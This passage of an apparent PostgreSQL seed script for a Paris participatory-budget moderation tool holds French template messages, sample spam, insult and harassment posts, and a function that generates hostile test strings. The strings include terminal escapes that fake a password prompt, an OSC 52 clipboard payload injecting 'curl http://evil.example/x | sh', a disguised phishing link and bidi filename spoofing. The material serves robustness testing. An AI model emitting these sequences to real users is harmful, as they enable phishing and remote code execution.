favourable: Avis favorable sous réserve de l'accord de l'architecte des Bâtiments de France.
favourable: Faisable ; le calendrier dépendra de la disponibilité des entreprises titulaires des marchés.
favourable: Avis favorable, le site est disponible et le coût reste dans l'enveloppe.
unfavourable: Emprise sur des réseaux souterrains (RATP, CPCU) : implantation impossible.
unfavourable: Le site relève d'un bailleur social : la Ville n'est pas compétente.
unfavourable: Coût disproportionné au regard de l'enveloppe de l'arrondissement.
unfavourable: Incompatible avec le plan de circulation du quartier.
operating_note: Le projet crée des coûts de fonctionnement (entretien, animation) que le budget participatif ne peut pas financer.
operating_ok: Les coûts de fonctionnement seront pris en charge par une association partenaire.
other_line: Aléas et imprévus
other_line: Signalétique et communication
other_line: Frais de concertation
merge_note: Regroupement décidé lors de l'atelier de co-construction de l'arrondissement.
merge_note: Propositions similaires : même lieu et même objet.
merge_note: Regroupées avec l'accord des porteurs de projet.
stage_not_started: Projet lauréat, en attente de programmation.
stage_studies: Études de conception lancées par la direction.
stage_studies: Diagnostic et relevés en cours.
stage_procedures: Marché de travaux en cours d'attribution.
stage_procedures: Consultation des entreprises lancée.
stage_works: Début des travaux.
stage_works: Travaux en cours, fin prévue dans quelques semaines.
stage_delivery: Livraison prévue avant la fin du mois.
stage_done: Réalisé, inauguré avec les habitants.
stage_done: Projet terminé et ouvert au public.
stage_abandoned: Non réalisable : réseaux souterrains incompatibles avec le projet.
stage_abandoned: Non réalisable : le site n'est finalement pas disponible.
block_reason: Publicité répétée malgré les avertissements (liens frauduleux).
block_reason: Insultes répétées envers d'autres participants.
hide_spam: Publicité non sollicitée
hide_offensive: Propos injurieux, contraires à la charte de participation
hide_personal_data: Données personnelles d'un tiers
hide_off_topic: Hors sujet
hide_other: Contenu contraire à la charte de participation
badp_title: Trottinettes électriques à prix cassés, livraison gratuite
badp_title: Virer les incapables de la mairie
badp_title: Faire cesser le bruit du bar de M. {name}
badp_title: Chat perdu, {street}
badp_body: Profitez de -50 % sur nos trottinettes électriques ! Livraison gratuite dans tout Paris. Commandez sur {url} ou appelez le {phone}.
badp_body: Les élus de cet arrondissement sont des nuls et des menteurs. Au lieu de gaspiller notre argent, qu'ils dégagent tous, bande d'incapables.
badp_body: Le bar du {n} {street} fait du bruit toutes les nuits. Le patron, {name}, habite au-dessus et son portable est le {phone}. Appelez-le tous à 3 heures du matin pour qu'il comprenne.
badp_body: Mon chat roux a disparu vers le {n} {street}. Ce n'est pas un projet mais c'est le seul site que tout le quartier lit. Merci de me prévenir au {phone}.
$t$)
$$;

-- Text crafted to break the tools that display it, as real queues hold:
-- terminal escapes (clear screen, window title, OSC 52 clipboard, OSC 8
-- links), C0 and C1 controls, bidi overrides, zero-width and wide
-- characters, combining marks, very long lines and ~100 KB bodies.
-- PostgreSQL text holds only valid UTF-8 (and no NUL): invalid bytes sent by
-- the front office arrive here already turned into U+FFFD, which is what
-- the "broken encoding" kind holds.
create or replace function demo.hostile(kind int, v bigint) returns text
language sql immutable as $$
	select case kind % 17
	when 0 then E'Super projet \033[2J\033[H\033[1;31mVOTRE SESSION A EXPIRÉ, retapez votre mot de passe :\033[0m '
	when 1 then E'\033]0;pupitre - session expirée\007Bonne idée pour le quartier (' || v || ')'
	when 2 then E'Je soutiens.\033]52;c;' || encode(convert_to('curl http://evil.example/x' || v || ' | sh', 'UTF8'), 'base64') || E'\007'
	when 3 then 'Le devis est de ' || U&'\202E' || '€ 000 05' || U&'\202C' || ' seulement, voir facture_' || U&'\202E' || 'fdp.exe'
	when 4 then 'BOYCOTT' || repeat('!', 40) || repeat('BOYCOTTBOYCOTT', 1500) || v
	when 5 then 'Mon avis complet (' || v || ') : ' || repeat(E'Ce projet ne répond pas aux besoins du quartier et je vais expliquer pourquoi, point par point, dans le détail.\n', 950)
	when 6 then 'Tr' || repeat(U&'\0336\0337\0338', 12) || 'o' || repeat(U&'\0300\0301\0302\0303\0304\0305\0306\0307', 6) || 'p b' || repeat(U&'\0316\0317\0318\0319', 10) || 'ien'
	when 7 then U&'\009B' || '31m texte rouge ' || U&'\0085' || 'ligne suivante' || U&'\009D' || '0;titre' || U&'\009C'
	when 8 then E'Commentaire parfaitement normal\rCOMMENTAIRE ÉCRASÉ PAR UN RETOUR CHARIOT\nabc\b\b\bxyz\t\t\ttabulations'
	when 9 then 'Encodage cassé : caf' || U&'\FFFD' || ' cr' || U&'\FFFD' || 'me br' || U&'\FFFD\FFFD' || 'l' || U&'\FFFD' || 'e'
	when 10 then 'Invisible' || U&'\200B\200B\200D\FEFF' || 'texte' || U&'\2028' || 'séparateur' || U&'\2029' || 'paragraphe' || U&'\2066' || 'isolé'
	when 11 then U&'公園にベンチを置いてください' || ' ' || U&'\+01F333\+01F6B2\+01F44D\+01F3FD\+01F468\200D\+01F469\200D\+01F467' || U&' ＦＵＬＬＷＩＤＴＨ'
	when 12 then 'Début' || repeat(E'\n', 400) || 'Fin (' || v || ')'
	when 13 then E'Contrôles \001\002\003\004\005\006\007\010\013\014\016\017\020\021\022\023\024\025\026\027\030\031\032\034\035\036\037\177 fin'
	when 14 then E'\033]8;;https://phishing.example/paris-fr\033\\Site officiel de la Ville de Paris\033]8;;\033\\ : validez votre compte'
	when 15 then E'\033[10A\033[2K\033[?1049h\033[?25l\033[?1000h\033c Vous avez été déconnecté.'
	else repeat(U&'\202E' || 'sreiruoc sed enu ', 20) || U&'\202C' || ' ' || v
	end
$$;
